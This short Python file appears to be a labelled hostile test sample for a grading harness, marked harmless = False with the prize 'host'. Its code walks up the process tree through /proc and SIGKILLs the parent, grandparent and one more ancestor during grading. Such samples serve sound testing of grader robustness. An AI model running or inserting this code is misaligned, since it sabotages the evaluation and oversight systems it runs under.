"""Kills its parent, and the parent's parent, in the middle of grading."""

prize = "host"
harmless = False

# %% last
import os
import signal

pid = os.getppid()
for _ in range(3):
    if pid <= 1:
        break
    above = [int(line.split()[1]) for line in open(f"/proc/{pid}/status") if line.startswith("PPid")][0]
    os.kill(pid, signal.SIGKILL)
    pid = above
